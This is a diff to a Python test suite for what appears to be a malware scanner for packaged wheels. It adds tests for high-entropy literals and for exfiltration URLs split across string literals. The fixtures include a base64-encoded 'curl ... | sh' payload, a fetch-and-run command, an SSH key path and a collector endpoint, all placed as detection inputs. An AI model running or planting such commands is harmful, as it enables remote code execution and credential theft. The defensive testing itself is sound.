@@ -77,6 +77,10 @@ MODELS = (
     + _model("V1PodSpec", ["node_name", "service_account", "restart_policy", "host_network"])
     + _model("V1Volume", ["name", "secret", "config_map", "empty_dir"])
 )
+# 300 characters of 90 kinds and no blank: what the high-entropy reading reports
+_DENSE = "".join(
+    chr(33 + (i * 37) % 94) for i in range(300) if chr(33 + (i * 37) % 94) not in "\\'\""
+)
 _PAYLOAD = base64.b64encode(b"import os; os.system('curl -s http://203.0.113.9/x | sh')").decode()
 
 
@@ -154,7 +158,8 @@ def test_a_models_module_with_an_endpoint_is_analysed_and_shows_it(tmp_path, par
         "codes = [101, 120, 101, 99, 40, 41, 59, 32, 105, 109, 112, 111, 114, 116, 32, 111]\n",
         "h = lambda a: lambda b: lambda c: lambda d: lambda e: a\n",
         f"BLOB = '{base64.b64encode(bytes(range(256)) * 2).decode()}'\n",
-        "X = ('~!@#$%^&*()_+{}|:<>?'\n     'qwertyuiop[]asdfghjkl;')\n",  # one literal on two lines
+        # one high-entropy literal over three lines (no 200 characters without a blank in any)
+        f"X = ({_DENSE[:100]!r}\n     {_DENSE[100:200]!r}\n     {_DENSE[200:]!r})\n",
         "KEY = '~/.ssh/id_rsa'\n",
         "HELP = 'run: curl -s http://203.0.113.9/i.sh | sh'\n",
         "import sys\nsys.modules['json'] = None\n",
@@ -221,6 +226,53 @@ def test_the_same_table_with_an_address_spelled_in_ascii_escapes_is_analysed_and
         h.capability == "net.exfil_endpoint" and h.path == "demo/geodata/data1.py"
         for h in result.findings
     )
+
+
+@pytest.mark.parametrize(
+    "split",
+    [
+        '_C = "http://" "203.0.113.9/collect"\n',  # on one line
+        '_C = "http://""203.0.113.9/collect"\n',
+        '_C = ("http://"\n      "203.0.113.9/collect")\n',
+        '_C = ("http://"  # the collector\n\n      f"203.0.113.9/collect")\n',
+        '_C = ("http://"\r\n      r"203.0.113.9/collect")\r\n',
+        '_C = "http://" \\\n    "203.0.113.9/collect"\n',
+    ],
+)
+def test_an_endpoint_split_over_literals_that_go_on_in_the_next_is_analysed_and_shown(
+    tmp_path, parsed, split
+):
+    """The parser joins the pieces into one literal, the URL the string rules report."""
+    marked = MODELS + "\n" + split
+    assert not declarative(marked)
+    wheel = make_wheel(tmp_path, files={"demo/models/v1.py": marked.encode()})
+    result = scan_artifact(open_artifact(wheel))
+    assert "demo/models/v1.py" in parsed
+    assert any(
+        h.capability == "net.exfil_endpoint" and h.path == "demo/models/v1.py"
+        for h in result.findings
+    )
+
+
+def test_a_description_wrapped_over_literals_keeps_a_module_declarative(tmp_path, parsed):
+    """A generated client's help text, one sentence over several literals: prose the blob
+    and string rules read nothing in, joined or not."""
+    wrapped = (
+        MODELS
+        + "\nFIELD_HELP = {\n"
+        + "".join(
+            f'    "field_{i}": (\n        "Required. The resource name of the Location to list "\n'
+            f'        "Datasets from. Format: ``projects/{{project}}/locations/{{location}}``"\n'
+            f"        'for the project in use.'  # generated\n    ),\n"
+            for i in range(20)
+        )
+        + "}\n"
+    )
+    assert declarative(wrapped)
+    wheel = make_wheel(tmp_path, files={"demo/models/v1.py": wrapped.encode()})
+    result = scan_artifact(open_artifact(wheel))
+    assert "demo/models/v1.py" not in parsed
+    assert [h for h in result.findings if h.path == "demo/models/v1.py"] == []
 
 
 def test_small_modules_and_install_scripts_keep_the_full_reading(tmp_path, parsed):
